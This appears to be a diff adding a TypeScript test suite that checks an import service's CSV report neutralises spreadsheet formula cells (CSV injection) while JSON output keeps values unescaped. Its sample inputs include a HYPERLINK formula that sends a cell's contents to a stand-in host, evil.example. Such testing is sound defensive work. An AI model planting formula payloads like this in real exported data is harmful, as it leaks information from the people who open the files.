@@ -1,0 +1,49 @@
+// Review 11 (inputs): the import's CSV report is opened in a spreadsheet, which reads a cell starting
+// with = + - @ tab or CR as a formula (OWASP "CSV Injection"). NetBox descriptions, custom fields and
+// RADIUS usernames put any text there. Such cells are written with a leading ' (csv-stringify's
+// `escape_formulas`); the JSON report keeps the values as they are, and what is read is not changed.
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { parse } from 'csv-parse/sync';
+import { fromCsv } from '../../services/adoption/report.ts';
+import { startHarness, type Harness } from '../http/support.ts';
+
+const test = suite('review11 (inputs): formulas in the import CSV report');
+let h: Harness;
+
+test.before(async () => {
+  h = await startHarness();
+});
+test.after(async () => h.close());
+
+const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+4930123456', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
+const records = hostile.map((v, i) => ({ subscriber_id: v, prefix: `2001:db8:0:${(i + 1) * 100}::/56`, username: v }));
+
+test('POST /import?format=csv: every cell a spreadsheet reads as a formula starts with a single quote', async () => {
+  const res = await h.post('import?format=csv', { sources: { file: { records } } });
+  assert.is(res.status, 200, res.text);
+  const rows = parse(res.text, { columns: true }) as Record<string, string>[];
+  assert.equal(
+    rows.map((r) => [r.subscriber_id, r.prefix, r.username]),
+    hostile.map((v, i) => [`'${v}`, `2001:db8:0:${(i + 1) * 100}::/56`, `'${v}`]),
+  );
+  for (const r of rows) assert.not.match(r.conflict ?? '', /^[=+\-@\t\r]/, 'a conflict cell starts with its kind');
+});
+
+test('POST /import (JSON): the same values, unescaped', async () => {
+  const res = await h.post('import', { sources: { file: { records } } });
+  assert.equal(res.body.entries.map((e: any) => e.subscriber_id).sort(), [...hostile].sort());
+});
+
+test('cells that only contain those characters later, and plain ones, are written as they are', async () => {
+  const plain = [{ subscriber_id: 'sub=1', prefix: '2001:db8:0:a00::/56', username: 'a+b@isp' }];
+  const res = await h.post('import?format=csv', { sources: { file: { records: plain } } });
+  assert.is(res.text.split('\r\n')[1], 'sub=1,2001:db8:0:a00::/56,a+b@isp,,suspended,');
+});
+
+test('fromCsv reads what it is given: a quote is not removed, a formula-like cell is not refused', () => {
+  const text = "subscriber_id,prefix,username\r\n'=a,2001:db8::/56,+4930\r\n";
+  assert.equal(fromCsv(text), [{ subscriber_id: "'=a", prefix: '2001:db8::/56', username: '+4930' }]);
+});
+
+test.run();
